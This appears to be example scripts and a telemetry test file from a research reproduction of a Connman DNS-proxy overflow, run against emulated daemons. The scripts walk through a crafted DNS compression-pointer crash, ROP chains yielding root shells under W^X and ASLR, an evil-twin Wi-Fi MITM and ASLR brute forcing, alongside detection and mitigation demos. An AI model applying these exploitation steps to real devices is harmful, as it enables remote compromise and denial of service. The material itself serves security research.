#!/usr/bin/env python3
"""Watch a hijack execute, instruction by instruction.

Attaches an execution trace to the victim and delivers each of the three
ARM exploits in turn, printing the emulated control flow from the moment
the corrupted return address is popped: shellcode stepping through
``mov``/``svc``, Listing 2's single wide gadget into ``execlp@plt``, and
Listing 5's full ``pop → blx r3 → memcpy@plt → pop {r4, pc}`` loop.

Run:  python examples/chain_trace.py
"""

from repro.connman import ConnmanDaemon
from repro.core import AttackScenario, attacker_knowledge
from repro.cpu import TraceRecorder
from repro.defenses import NONE, WX, WX_ASLR
from repro.exploit import builder_for, deliver


def trace_attack(label, profile):
    print(f"=== {label} ===")
    victim = ConnmanDaemon(arch="arm", profile=profile)
    recorder = TraceRecorder(limit=48)
    victim.loaded.process.trace = recorder
    knowledge = attacker_knowledge(AttackScenario("arm", label, profile))
    exploit = builder_for("arm", profile).build(knowledge)
    report = deliver(exploit, victim)
    print(f"strategy: {exploit.strategy} | outcome: {report.event.describe()[:64]}")
    print(recorder.describe())
    natives = [entry.text for entry in recorder.natives()]
    print(f"native calls: {' -> '.join(natives) if natives else '(none)'}")
    print()


def main() -> None:
    print(__doc__)
    trace_attack("no protections (shellcode)", NONE)
    trace_attack("W^X (gadget -> execlp@plt)", WX)
    trace_attack("W^X + ASLR (blx r3 ROP loop)", WX_ASLR)


if __name__ == "__main__":
    main()
