#!/usr/bin/env python3
"""Quickstart: reproduce the paper's six-attack matrix in one run.

For every (architecture x protection level) cell of §III:

1. boot a victim Connman 1.34 daemon (emulated process, root, DNS proxy);
2. run attacker recon on a bench copy of the same firmware;
3. build the exploit the paper's ladder prescribes for that level;
4. deliver it as a crafted Type A DNS response through the proxy path;
5. observe what the emulated CPU actually did.

Run:  python examples/quickstart.py
"""

from repro.core import PAPER_MATRIX, render_table, run_scenario


def main() -> None:
    print(__doc__)
    rows = []
    for scenario in PAPER_MATRIX:
        result = run_scenario(scenario)
        rows.append(result.row())
        marker = "ROOT SHELL" if result.succeeded else "no shell"
        print(f"  {scenario.key:<14} {marker}")
    print()
    print(render_table(("arch", "protections", "strategy", "outcome"), rows,
                       title="§III experiment matrix (all six attacks)"))
    print()
    print("Every protection level on both architectures yields a root shell —")
    print("the paper's central result.  See the other examples for the DoS,")
    print("the Wi-Fi Pineapple MITM, and the §IV mitigations.")


if __name__ == "__main__":
    main()
