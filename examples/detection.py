#!/usr/bin/env python3
"""Blue team: watching the attack, and what actually stops it.

Three perspectives on the same Pineapple attack:

1. **Network detection** — a sniffer on both LANs flags the exploit-bearing
   response (a "DNS" packet whose name field the benign codec rejects);
2. **Patching** — the Connman 1.35 device drops the payload outright;
3. **The §VII guard** — an unpatched device with the lightweight
   return-address guard degrades the RCE to a visible crash, and even an
   ASLR brute-force campaign gets nowhere.

Run:  python examples/detection.py
"""

import random

from repro.connman import ConnmanDaemon
from repro.core import AttackScenario, PineappleWorld, attacker_knowledge
from repro.defenses import WX_ASLR, ProtectionProfile
from repro.exploit import AslrBruteForcer, builder_for, malicious_server_for
from repro.firmware import raspberry_pi_3b
from repro.net import PacketSniffer, WifiPineapple

SSID = "HomeWiFi"
GUARDED = ProtectionProfile(wx=True, aslr=True, ret_guard=True)


def main() -> None:
    print(__doc__)

    # --- 1. network detection ---------------------------------------------
    world = PineappleWorld.build(SSID)
    pi = raspberry_pi_3b(known_ssids=[SSID], profile=WX_ASLR)
    pi.join_wifi(world.radio)
    exploit = builder_for("arm", WX_ASLR).build(
        attacker_knowledge(AttackScenario("arm", "blue", WX_ASLR))
    )
    pineapple = WifiPineapple(malicious_server_for(exploit))
    pineapple.impersonate(SSID, world.radio)

    sniffer = PacketSniffer()
    sniffer.attach(world.home_network)
    sniffer.attach(pineapple.network)

    pi.join_wifi(world.radio)
    pi.lookup("ota.vendor.example")
    sniffer.poll()
    print("1. Sniffer view of the attack:")
    for packet in sniffer.captured:
        print(f"   {packet.describe()}")
    flagged = sniffer.suspicious_packets()
    print(f"   => {len(flagged)} packet(s) flagged; device compromised: {pi.compromised}")
    print()

    # --- 2. patching ---------------------------------------------------------
    patched = ConnmanDaemon(arch="arm", version="1.35", profile=WX_ASLR)
    from repro.exploit import deliver

    report = deliver(exploit, patched)
    print(f"2. Same payload vs connman 1.35: {report.event.describe()[:64]}")
    print(f"   daemon alive: {patched.alive}")
    print()

    # --- 3. the §VII return-address guard --------------------------------------
    guarded = ConnmanDaemon(arch="arm", version="1.34", profile=GUARDED)
    report = deliver(exploit, guarded)
    print(f"3. Same payload vs ret-guard:    {report.event.describe()[:64]}")
    print("   RCE degraded to a crash (visible in logs, respawned by init).")

    x86_guarded = ConnmanDaemon(
        arch="x86", version="1.34", profile=GUARDED, rng=random.Random(11)
    )
    campaign = AslrBruteForcer(x86_guarded, max_attempts=256,
                               rng=random.Random(12)).run()
    print(f"   brute-force campaign against the guard: {campaign.describe()}")


if __name__ == "__main__":
    main()
