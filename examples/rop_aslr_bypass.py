#!/usr/bin/env python3
"""Walkthrough of the hardest exploit: ROP under W^X + ASLR (§III-C).

Shows each step the paper describes, with real artifacts from the simulated
binary: the gadget scan, the single-character `memstr` sources, the planned
chain (Listings 3–5 equivalents), the DNS label plan that smuggles it past
the length-byte interleaving of Listing 1, and the final root shell.

Run:  python examples/rop_aslr_bypass.py
"""

from repro.connman import ConnmanDaemon
from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import WX_ASLR
from repro.exploit import ArmRopMemcpyExeclp, X86RopMemcpyExeclp, deliver


def show_build(arch: str) -> None:
    print(f"=== {arch} ===")
    knowledge = attacker_knowledge(AttackScenario(arch, "W^X+ASLR", WX_ASLR))
    print(f"recon: {knowledge.describe()}")

    finder = knowledge.finder
    if arch == "x86":
        unwind = finder.pops_then_ret(4)[0]
        print(f"unwind gadget     : {unwind}")
    else:
        wide = finder.pop_regs(("r0", "r1", "r2", "r3", "r5", "r6", "r7"))[0]
        blx, extra = finder.blx_trampolines("r3")[0]
        print(f"restore gadget    : {wide}")
        print(f"blx r3 trampoline : {blx:#010x} (+{extra} offset word)")
    string = b"/bin/sh" if arch == "x86" else b"sh"
    for char, address in sorted(finder.char_sources(string).items()):
        print(f"memstr {chr(char)!r}        : {address:#010x}")
    print(f"memcpy@plt        : {knowledge.plt['memcpy']:#010x}")
    print(f"execlp@plt        : {knowledge.plt['execlp']:#010x}")
    print(f".bss scratch      : {knowledge.bss:#010x}")

    builder = X86RopMemcpyExeclp() if arch == "x86" else ArmRopMemcpyExeclp()
    exploit = builder.build(knowledge)
    payload = exploit.payload
    print(f"chain plan        : {payload.expansion_length} bytes expanded from "
          f"{len(payload.labels)} DNS labels")
    print(f"label lengths     : {[len(label) for label in payload.labels]}")

    victim = ConnmanDaemon(arch=arch, version="1.34", profile=WX_ASLR)
    print(f"victim            : {victim.status()}")
    report = deliver(exploit, victim)
    print(f"delivery          : {report.event.describe()}")
    spawn = report.event.spawn
    assert spawn is not None and spawn.is_root_shell
    print(f"*** root shell: {spawn.path} (uid={spawn.uid}) ***")
    print()


def main() -> None:
    print(__doc__)
    for arch in ("x86", "arm"):
        show_build(arch)
    print("Note that neither chain contains a single libc address: gadgets,")
    print("PLT entries and .bss all live in the non-PIE image, which ASLR on")
    print("a 32-bit IoT build does not move.")


if __name__ == "__main__":
    main()
