#!/usr/bin/env python3
"""The §III-D field experiment: Wi-Fi Pineapple man-in-the-middle.

Reproduces Fig. 1 end to end:

  [Raspberry Pi + Connman] --wifi--> [evil twin AP] --DHCP--> rogue DNS
                                                         \\-> exploit in
                                                             every Type A

The Pi's only configuration is "DHCP with automatic DNS" — exactly the
paper's setup.  The Pineapple broadcasts the home SSID at a stronger
signal; the Pi roams on its next scan, and its next uncached DNS lookup
comes back with the ROP payload.

Run:  python examples/pineapple_mitm.py
"""

from repro.core import AttackScenario, PineappleWorld, attacker_knowledge
from repro.defenses import WX_ASLR
from repro.exploit import builder_for, malicious_server_for
from repro.firmware import raspberry_pi_3b
from repro.net import WifiPineapple

SSID = "SmithFamilyWiFi"


def main() -> None:
    print(__doc__)
    world = PineappleWorld.build(SSID)
    pi = raspberry_pi_3b(known_ssids=[SSID], profile=WX_ASLR)

    association = pi.join_wifi(world.radio)
    print(f"1. Pi associates to legit AP  : {association.ap.describe()}")
    event = pi.lookup("ntp.ubuntu.example")
    print(f"2. Normal lookup via home DNS : {event.describe()[:60]}")
    print(f"   resolv.conf now points at  : {pi.host.dns_server}")

    knowledge = attacker_knowledge(AttackScenario("arm", "W^X+ASLR", WX_ASLR))
    exploit = builder_for("arm", WX_ASLR).build(knowledge)
    pineapple = WifiPineapple(malicious_server_for(exploit))
    rogue = pineapple.impersonate(SSID, world.radio)
    print(f"3. Pineapple raises evil twin : {rogue.describe()}")

    moved = pi.join_wifi(world.radio)
    print(f"4. Pi rescans and roams       : now on {moved.ap.bssid} "
          f"(dns={moved.dns_server})")

    event = pi.lookup("connectivity-check.example")
    print(f"5. Next uncached lookup       : {event.describe()[:70]}")
    print(f"   queries the rogue answered : {pineapple.captured_queries}")
    print()
    if event.is_root_shell:
        print(f"*** remote root shell on {pi.name} (W^X + ASLR enabled) ***")
    print(pi.status())


if __name__ == "__main__":
    main()
