#!/usr/bin/env python3
"""The minimal attack: denial of service against Connman's DNS proxy.

An attacker-controlled DNS server answers a forwarded query with a Type A
record whose *name* expands past the 1024-byte `name` stack buffer.  On
Connman <= 1.34 the daemon corrupts its stack and crashes (the device loses
DNS); on 1.35 the patched bounds check drops the packet.

This example also shows the cyclic-pattern offset discovery the exploits
build on, and a compression-pointer "bomb" variant of the crash.

Run:  python examples/dos_crash.py
"""

from repro.connman import ConnmanDaemon, EventKind
from repro.core import naive_overflow_blob
from repro.defenses import WX_ASLR
from repro.dns import build_raw_response, encode_pointer, make_query
from repro.exploit import Debugger


def pointer_bomb_blob() -> bytes:
    """A tiny packet whose name re-visits a 63-byte label via pointers.

    Each pointer jump re-expands labels without adding packet bytes —
    compression as an amplification primitive.
    """
    # Offset 12 is where the name starts in our raw answer (right after the
    # DNS header) when the question section is empty.
    blob = bytearray()
    blob.append(63)
    blob += b"B" * 63
    # Chain of pointers back to the label start: the victim's jump budget
    # (128) re-expands it until the stack segment ends.
    for _ in range(40):
        blob += encode_pointer(12)
    return bytes(blob)


def main() -> None:
    print(__doc__)

    for arch in ("x86", "arm"):
        for version in ("1.34", "1.35"):
            daemon = ConnmanDaemon(arch=arch, version=version, profile=WX_ASLR)
            query = make_query(0xD05, "firmware-update.example")
            reply = build_raw_response(query, naive_overflow_blob())
            event = daemon.handle_upstream_reply(reply, expected_id=0xD05)
            state = "daemon still running" if daemon.alive else "daemon DOWN"
            print(f"  connman {version} on {arch:<4}: {event.describe()[:58]:<60} [{state}]")
    print()

    print("Offset discovery (the gdb step, automated):")
    daemon = ConnmanDaemon(arch="x86", version="1.34")
    debugger = Debugger(daemon)
    offset = debugger.find_ret_offset()
    print(f"  cyclic-pattern crash puts the saved return address at name+{offset}")
    print(f"  (frame model says name+{daemon.frame.ret_offset})")
    print()

    print("Pointer-amplified crash (compression bomb):")
    daemon = ConnmanDaemon(arch="arm", version="1.34", profile=WX_ASLR)
    query = make_query(0xB0B, "cdn.example")
    # The bomb's pointers refer to offset 12 of the *answer name region*;
    # build a response with no question so the name really is at offset 12.
    from repro.dns import Message, Flags
    bare_query = Message(id=0xB0B, flags=Flags(qr=False))
    reply = build_raw_response(bare_query, pointer_bomb_blob())
    event = daemon.handle_upstream_reply(reply, expected_id=0xB0B)
    print(f"  {len(pointer_bomb_blob())}-byte name field -> {event.describe()[:70]}")
    assert event.kind is EventKind.CRASHED


if __name__ == "__main__":
    main()
