#!/usr/bin/env python3
"""Fleet audit + §IV mitigation shoot-out.

Part 1 audits the firmware catalog against the CVE database (the paper's
"such vulnerabilities persist, even months after being discovered" point).
Part 2 runs the strongest attack (the ROP chain) against every suggested
mitigation, plus a diversity analysis of how little attacker knowledge
transfers between diversified builds.

Run:  python examples/firmware_audit.py
"""

from repro.core import diversity_survival, e6_firmware_survey, e7_mitigations
from repro.firmware import ALL_CVES


def main() -> None:
    print(__doc__)
    print(e6_firmware_survey().describe())
    print()

    print("CVE database (target + §V adaptation set):")
    for cve in ALL_CVES:
        print(f"  {cve.cve_id:<15} {cve.component:<17} {cve.protocol:<5} "
              f"[{cve.adaptation_effort}] {cve.description[:48]}")
    print()

    print(e7_mitigations().describe())
    print()

    print("Diversity analysis (x86): attacker knowledge surviving per build")
    for report in diversity_survival("x86", seeds=6):
        print(
            f"  seed {report.seed}: {report.surviving_gadgets}/{report.reference_gadgets} "
            f"gadget addresses survive, {report.plt_moved}/{report.plt_total} PLT entries moved "
            f"(survival rate {report.gadget_survival_rate:.1%})"
        )


if __name__ == "__main__":
    main()
