#!/usr/bin/env python3
"""Chaos sweep: fault injection, supervision, and resilient forwarding.

Sweeps the seeded fault fabric from a clean wire to a badly lossy one and
prints the reliability table: how many client queries the supervised
Connman answered fresh, how many degraded to serve-stale, how many failed
outright — and whether the §VI ASLR brute force (its spoofed replies
crossing the same fabric, its crashes metered by the supervisor's
start-limit budget) still gets a shell.

Also shows the two headline mechanisms in isolation:
  * a ResilientResolver beating a 60%-loss fabric with retries+failover,
  * the supervisor halting a brute force that bare init would let win.

Run:  python examples/chaos_sweep.py
"""

import json
import os
import random
import tempfile

from repro.connman import ConnmanDaemon, DaemonSupervisor
from repro.defenses import WX_ASLR
from repro.dns import ResilientResolver, SimpleDnsServer, make_query
from repro.exploit import AslrBruteForcer
from repro.net import FaultPolicy, faulty_transport
from repro.core import run_chaos_sweep


def show_resilient_resolution() -> None:
    print("=== ResilientResolver vs. a 60%-loss fabric ===")
    dns = SimpleDnsServer(default_address="198.51.100.7")
    policy = FaultPolicy(seed=5, drop=0.6)
    resolver = ResilientResolver(
        [faulty_transport(dns.handle_query, policy, dst=f"ns{i}")
         for i in (1, 2)],
        retries=3,
        rng=random.Random(2),
    )
    served = sum(
        1 for number in range(20)
        if resolver(make_query(number, "host.example").encode()) is not None
    )
    timeouts = sum(1 for a in resolver.attempt_log if a.outcome == "timeout")
    print(f"queries served    : {served}/20")
    print(f"upstream timeouts : {timeouts} (absorbed by retries + failover)")
    print(f"faults injected   : {policy.fault_count()}")
    print()


def show_supervised_bruteforce() -> None:
    print("=== supervisor start-limit vs. ASLR brute force ===")
    profile = WX_ASLR.with_(aslr_entropy_pages=64)

    bare = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(424))
    free = AslrBruteForcer(bare, max_attempts=192, rng=random.Random(17)).run()
    print(f"bare init   : {free.describe()}")

    watched = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(424))
    supervisor = DaemonSupervisor(watched, start_limit_burst=8)
    capped = AslrBruteForcer(watched, max_attempts=192, rng=random.Random(17),
                             supervisor=supervisor).run()
    print(f"supervised  : {capped.describe()}")
    print(f"supervisor  : {supervisor.describe()}")
    print()


def show_checkpoint_resume() -> None:
    """A sweep journaled to a checkpoint, then resumed from it.

    On the command line the same round trip is:

        python -m repro chaos --workers 4 --checkpoint run.ckpt --json
        ... SIGKILL mid-sweep ...
        python -m repro chaos --workers 4 --resume run.ckpt --json

    The resumed artifact is byte-identical to an uninterrupted run;
    only the trials missing from the journal re-execute.
    """
    print("=== checkpointed sweep, then resume ===")
    path = os.path.join(tempfile.mkdtemp(), "chaos.ckpt")
    first = run_chaos_sweep((0.0, 0.2, 0.5), checkpoint=path)
    resumed = run_chaos_sweep((0.0, 0.2, 0.5), checkpoint=path, resume=True)
    identical = (json.dumps(first.to_dict(), sort_keys=True)
                 == json.dumps(resumed.to_dict(), sort_keys=True))
    print(f"journal           : {path}")
    print(f"resume health     : {resumed.health.describe()}")
    print(f"artifact identical: {identical}")
    print()


def main() -> None:
    print(__doc__)
    show_resilient_resolution()
    show_supervised_bruteforce()
    show_checkpoint_resume()
    report = run_chaos_sweep((0.0, 0.2, 0.5))
    print(report.describe())


if __name__ == "__main__":
    main()
