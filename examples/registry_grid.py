#!/usr/bin/env python3
"""Experiment registry: declarative specs, seeded grids, results artifacts.

Every paper experiment (E1-E16) is declared once with the
`@register_experiment` decorator; this example drives the registry the
way the CLI does:

  * list the specs (`repro experiments --list` renders the same table),
  * run one spec at its default grid point — identical output to calling
    the legacy function directly,
  * widen a parameter axis into a real grid, shard it over workers
    (bit-identical to sequential), and
  * write/reload the `repro-results/v1` artifact that `repro report`,
    `repro dash --results`, and the bench `--results` gate consume.

Run:  python examples/registry_grid.py
"""

import json
import os
import tempfile

from repro.core import (
    e1_dos,
    load_results,
    run_experiment,
    write_results,
)
from repro.core.registry import get_experiment, render_registry_table


def show_registry() -> None:
    print("=== the registry ===")
    print(render_registry_table())


def show_single_point_parity() -> None:
    print("\n=== E1 through the registry == the legacy call ===")
    registry_run = run_experiment("E1")
    assert registry_run.describe() == e1_dos().describe()
    print(registry_run.describe())
    print(f"\nparity holds; grid hash {registry_run.grid_hash}")


def show_grid_sweep() -> None:
    print("\n=== E14 widened into a grid, sharded over 2 workers ===")
    spec = get_experiment("E14")
    sequential = run_experiment(spec, grid={"trials": (2, 3)}, workers=1)
    sharded = run_experiment(spec, grid={"trials": (2, 3)}, workers=2)
    assert (json.dumps(sharded.to_artifact(), sort_keys=True)
            == json.dumps(sequential.to_artifact(), sort_keys=True))
    print(sharded.describe())

    with tempfile.TemporaryDirectory() as scratch:
        path = os.path.join(scratch, "e14.jsonl")
        write_results(path, sharded.artifact_header(), sharded.artifact_rows())
        header, rows = load_results(path)
        print(f"\nartifact: {header['schema']} for {header['experiment']}, "
              f"{header['total']} trials, grid {header['grid_hash']}")
        for row in rows:
            print(f"  trial {row['index']} params={row['params']} "
                  f"seed={row['seed']} -> {row['outcome']}")


if __name__ == "__main__":
    show_registry()
    show_single_point_parity()
    show_grid_sweep()
