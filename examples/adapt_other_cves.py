#!/usr/bin/env python3
"""§V: pointing the Connman tooling at other vulnerabilities.

"Minimal modification" (DNS family: dnsmasq CVE-2017-14493, systemd
CVE-2018-9445, asterisk CVE-2018-19278) means re-running recon against the
new binary — same builders, new addresses and frame offsets.  "Moderate
modification" (HTTP/TCP CVEs) additionally swaps the packet-creation
algorithm: the same stack image rides in a POST body or a control packet
instead of a DNS label stream.

Run:  python examples/adapt_other_cves.py
"""

from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import WX_ASLR
from repro.exploit import builder_for
from repro.othercves import (
    ALL_SPECS,
    AdaptedService,
    adapt_exploit,
    deliver_to_service,
    knowledge_for_service,
)


def main() -> None:
    print(__doc__)

    connman_knowledge = attacker_knowledge(AttackScenario("x86", "ref", WX_ASLR))
    print(f"reference (connman/x86): ret_offset=name+{connman_knowledge.ret_offset}, "
          f"memcpy@plt={connman_knowledge.plt['memcpy']:#010x}")
    print()

    for spec in ALL_SPECS:
        service = AdaptedService(spec, profile=WX_ASLR)
        knowledge = knowledge_for_service(service, aslr_blind=True)
        builder = builder_for(spec.arch, WX_ASLR)
        exploit = adapt_exploit(builder, service, aslr_blind=True)
        report = deliver_to_service(exploit, service)
        verdict = "ROOT SHELL" if report.got_root_shell else report.event.describe()[:40]
        print(f"{spec.name:<18} {spec.cve_id:<15} [{spec.protocol:>4}/"
              f"{spec.adaptation_effort:<8}]")
        print(f"  retargeted facts : ret_offset=name+{knowledge.ret_offset}, "
              f"memcpy@plt={knowledge.plt['memcpy']:#010x}, bss={knowledge.bss:#010x}")
        print(f"  delivery         : {spec.protocol} transport -> {verdict}")
    print()
    print("Same builders, new addresses — the §V portability claim, measured.")


if __name__ == "__main__":
    main()
