"""Campaign telemetry: time series, SLOs, OpenMetrics, dashboard, bench gate."""

import json

import pytest

from repro.cli import main
from repro.core import (
    collect_baseline,
    compare_baseline,
    describe_comparison,
    run_forced_crash,
    trajectory_entry,
    validate_baseline,
)
from repro.obs import (
    Collector,
    DEFAULT_SLOS,
    OpenMetricsError,
    SloRuleError,
    TimeSeries,
    TimeSeriesStore,
    build_dashboard_json,
    estimate_percentile,
    evaluate_slos,
    export_openmetrics,
    parse_openmetrics,
    parse_rule,
    render_dashboard,
    render_openmetrics,
    sparkline,
)
from repro.obs.metrics import Histogram


def observed_collector(interval=1.0):
    """A collector with an attached store and a little synthetic history."""
    collector = Collector(series=TimeSeriesStore(interval=interval))
    for tick in range(10):
        collector.inc("requests", 2)
        if tick >= 6:
            collector.inc("errors")
        collector.observe("latency_ms", 5.0 + tick)
        collector.advance(1.0)
    return collector


class TestTimeSeries:
    def test_ring_buffer_caps_and_counts_dropped(self):
        series = TimeSeries("x", "counter", limit=3)
        for tick in range(7):
            series.record(float(tick), tick)
        assert series.times == [4.0, 5.0, 6.0]
        assert series.values == [4, 5, 6]
        assert series.dropped == 4

    def test_repeated_time_resnapshots_in_place(self):
        series = TimeSeries("x", "counter")
        series.record(1.0, 5)
        series.record(1.0, 9)
        assert series.times == [1.0]
        assert series.values == [9]

    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError, match="unknown kind"):
            TimeSeries("x", "gauge")

    def test_at_or_before(self):
        series = TimeSeries("x", "counter")
        series.record(1.0, 10)
        series.record(3.0, 30)
        assert series.at_or_before(0.5) is None
        assert series.at_or_before(1.0) == 10
        assert series.at_or_before(2.9) == 10
        assert series.at_or_before(99.0) == 30


class TestTimeSeriesStore:
    def test_samples_on_grid_crossings(self):
        collector = Collector(series=TimeSeriesStore(interval=2.0))
        collector.inc("c", 1)
        collector.advance(5.0)  # crosses t=2 and t=4
        assert collector.series.timeline == [2.0, 4.0]
        assert collector.series.series["c"].values == [1, 1]
        collector.inc("c", 3)
        collector.advance_to(6.0)  # crosses t=6 with the new total
        assert collector.series.series["c"].values == [1, 1, 4]

    def test_sample_flushes_off_grid(self):
        collector = Collector(series=TimeSeriesStore())
        collector.inc("c")
        collector.advance(0.25)  # below the first grid boundary
        assert collector.series.timeline == []
        assert collector.sample() == 0.25
        assert collector.series.timeline == [0.25]

    def test_sample_without_store_raises(self):
        with pytest.raises(ValueError, match="attach_series"):
            Collector().sample()

    def test_invalid_interval_and_limit(self):
        with pytest.raises(ValueError, match="interval"):
            TimeSeriesStore(interval=0.0)
        with pytest.raises(ValueError, match="limit"):
            TimeSeriesStore(limit=0)

    def test_windowed_delta_and_rate(self):
        collector = observed_collector()
        store = collector.series
        # errors: one per second from t>=7 samples onward; the window
        # [7, 10] is closed, so the increase sampled exactly at t=7
        # (against the t=6 baseline) is inside it: 4 total.
        assert store.delta("errors", 3.0, at=10.0) == 4
        assert store.rate("errors", 3.0, at=10.0) == pytest.approx(4.0 / 3.0)
        # Before the counter was born there is no data at all.
        assert store.delta("errors", 2.0, at=3.0) is None
        with pytest.raises(ValueError, match="window"):
            store.rate("errors", 0.0)

    def test_delta_includes_increase_sampled_on_window_left_edge(self):
        # Regression: a sample lying exactly at ``at - window`` used to be
        # taken as the subtracted baseline, silently excluding an increase
        # recorded at that instant from the promised closed interval.
        store = TimeSeriesStore(interval=1.0)
        series = store.series["hits"] = TimeSeries("hits", "counter")
        series.record(4.0, 4)
        series.record(5.0, 10)   # +6 lands exactly on the left edge below
        series.record(10.0, 12)
        assert store.delta("hits", 5.0, at=10.0) == 8   # was 2 pre-fix
        assert store.rate("hits", 5.0, at=10.0) == pytest.approx(8.0 / 5.0)
        # Window reaching past the first sample still baselines at zero.
        assert store.delta("hits", 20.0, at=10.0) == 12

    def test_windowed_percentile_uses_delta_buckets(self):
        collector = observed_collector()
        store = collector.series
        whole = store.percentile("latency_ms", 0.5)
        recent = store.percentile("latency_ms", 0.5, window=3.0, at=10.0)
        assert whole is not None and recent is not None
        assert recent > whole  # the tail of the ramp is slower than the run
        assert store.percentile("missing", 0.5) is None


class TestHistogramPercentile:
    def test_empty_histogram_returns_none_never_raises(self):
        histogram = Histogram("lat", (1.0, 10.0))
        assert histogram.percentile(0.5) is None
        assert histogram.percentile(0.0) is None
        assert histogram.percentile(1.0) is None

    def test_percentile_tracks_observations(self):
        histogram = Histogram("lat", (1.0, 2.0, 5.0, 10.0, 100.0))
        for value in range(1, 101):
            histogram.observe(float(value))
        p50 = histogram.percentile(0.5)
        p99 = histogram.percentile(0.99)
        assert 5.0 <= p50 <= 100.0
        assert p99 <= 100.0
        assert p50 < p99

    def test_invalid_quantile_rejected(self):
        histogram = Histogram("lat", (1.0,))
        histogram.observe(0.5)
        with pytest.raises(ValueError, match="must be in"):
            histogram.percentile(1.5)

    def test_to_dict_reports_explicit_percentiles(self):
        histogram = Histogram("lat", (1.0, 10.0))
        exported = histogram.to_dict()
        assert exported["p50"] is None and exported["p99"] is None
        histogram.observe(3.0)
        exported = histogram.to_dict()
        for key in ("p50", "p95", "p99"):
            assert exported[key] is not None

    def test_estimate_percentile_inf_bucket_clamps_to_max(self):
        # All mass beyond the last finite bound: answer is the observed max.
        assert estimate_percentile((1.0,), [0, 4], 0.99, hi=42.0) == 42.0
        assert estimate_percentile((1.0,), [0, 0], 0.5) is None


class TestCollectorExportGuards:
    def test_last_events_zero_means_no_events(self):
        collector = Collector()
        collector.emit("net", "packet.tx")
        exported = collector.to_dict(last_events=0)
        assert exported["events"] == []
        assert exported["metrics"]["counters"]["events.net"] == 1

    def test_negative_last_events_rejected(self):
        collector = Collector()
        with pytest.raises(ValueError, match="negative"):
            collector.to_dict(last_events=-1)
        with pytest.raises(ValueError, match="negative"):
            collector.bus.to_dicts(last=-3)


class TestSloRules:
    def test_parse_full_grammar(self):
        rule = parse_rule("cache.stale rate < 0.2/s over 30s", name="stale")
        assert (rule.metric, rule.agg, rule.op) == ("cache.stale", "rate", "<")
        assert rule.threshold == 0.2
        assert rule.window == 30.0
        assert rule.expr() == "cache.stale rate < 0.2/s over 30s"

    def test_parse_rejects_garbage_and_misplaced_suffix(self):
        with pytest.raises(SloRuleError, match="grammar"):
            parse_rule("not a rule")
        with pytest.raises(SloRuleError, match="only applies to rate"):
            parse_rule("daemon.crashes count == 0/s")

    def test_breach_emits_typed_event_and_counter(self):
        collector = observed_collector()
        report = evaluate_slos([parse_rule("errors count == 0", name="none")],
                               collector)
        assert not report.ok
        assert [v.rule.name for v in report.breaches] == ["none"]
        breaches = collector.bus.by_kind("slo.breach")
        assert len(breaches) == 1
        assert breaches[0].detail["rule"] == "none"
        assert collector.metrics.value("slo.breaches") == 1

    def test_read_only_pass_emits_nothing(self):
        collector = observed_collector()
        report = evaluate_slos([parse_rule("errors count == 0")],
                               collector, at=10.0, emit=False)
        assert not report.ok
        assert collector.bus.by_kind("slo.breach") == []
        assert collector.metrics.value("slo.breaches") == 0

    def test_missing_telemetry_is_no_data_not_breach(self):
        report = evaluate_slos([parse_rule("ghost.metric p95 < 1")], Collector())
        assert report.ok
        assert report.verdicts[0].observed is None
        assert "no data" in report.verdicts[0].note

    def test_forced_crash_breaches_crash_free(self):
        run = run_forced_crash(observer=Collector(series=TimeSeriesStore()))
        run.collector.sample()
        report = evaluate_slos(DEFAULT_SLOS, run.collector)
        assert "crash-free" in [v.rule.name for v in report.breaches]
        assert run.collector.bus.by_kind("slo.breach")


class TestOpenMetrics:
    def test_export_parse_render_round_trip(self):
        collector = observed_collector()
        text = export_openmetrics(collector)
        families = parse_openmetrics(text)
        assert render_openmetrics(families) == text
        names = {family.name for family in families}
        assert "requests" in names and "latency_ms" in names
        assert "requests_series" in names  # the attached store's samples

    def test_taint_counters_round_trip(self):
        from repro.obs import TaintEngine

        collector = Collector()
        collector.attach_taint(TaintEngine())
        run_forced_crash(observer=collector)
        text = export_openmetrics(collector)
        families = parse_openmetrics(text)
        assert render_openmetrics(families) == text
        names = {family.name for family in families}
        assert {"taint_sources", "taint_seeded_bytes", "taint_pc_writes",
                "taint_live_bytes"} <= names

    def test_histogram_family_is_cumulative_with_inf(self):
        collector = Collector()
        collector.observe("lat", 0.5)
        collector.observe("lat", 99.0)
        text = export_openmetrics(collector)
        family = {f.name: f for f in parse_openmetrics(text)}["lat"]
        buckets = [s for s in family.samples if s.name == "lat_bucket"]
        assert buckets[-1].labels == (("le", "+Inf"),)
        counts = [s.value for s in buckets]
        assert counts == sorted(counts)  # cumulative
        assert counts[-1] == 2.0

    @pytest.mark.parametrize("mutate, message", [
        (lambda t: t.replace("# EOF\n", ""), "EOF"),
        (lambda t: t.rstrip("\n"), "newline"),
        (lambda t: t.replace("counter", "kounter", 1), "type"),
        (lambda t: "stray_total 1.0\n" + t, "TYPE"),
        (lambda t: t.replace("requests_total 20.0\n",
                             "requests_total banana\n"), "value"),
    ])
    def test_strict_parser_rejects(self, mutate, message):
        text = export_openmetrics(observed_collector())
        with pytest.raises(OpenMetricsError, match=message):
            parse_openmetrics(mutate(text))

    def test_metrics_cli_openmetrics_mode(self, capsys):
        assert main(["metrics", "--openmetrics", "--queries", "4",
                     "--attack-budget", "2"]) == 0
        out = capsys.readouterr().out
        assert out.endswith("# EOF\n")
        parse_openmetrics(out)  # strict: must be a valid exposition


class TestDashboard:
    def test_sparkline_scales_to_glyphs(self):
        assert sparkline([]) == ""
        assert sparkline([0.0, 0.0]) == "▁▁"
        line = sparkline([0.0, 5.0, 10.0])
        assert line[0] == "▁" and line[-1] == "█"

    def test_render_contains_series_slos_and_spans(self):
        collector = observed_collector()
        collector.metrics.observe("span.demo.duration", 1.0)
        report = evaluate_slos(DEFAULT_SLOS, collector)
        frame = render_dashboard(collector, report, color=False)
        assert "campaign telemetry" in frame
        assert "requests" in frame
        assert "SLOs" in frame and "✓ ok" in frame
        assert "top spans" in frame and "demo" in frame
        assert "\x1b[" not in frame  # --no-color really is plain

    def test_dash_cli_json_crash_scenario_has_breach(self, capsys):
        status = main(["dash", "--scenario", "crash", "--once", "--json"])
        payload = json.loads(capsys.readouterr().out)
        assert status == 1  # breaches present -> non-zero, gate-style
        assert payload["schema"] == "repro-dash/v1"
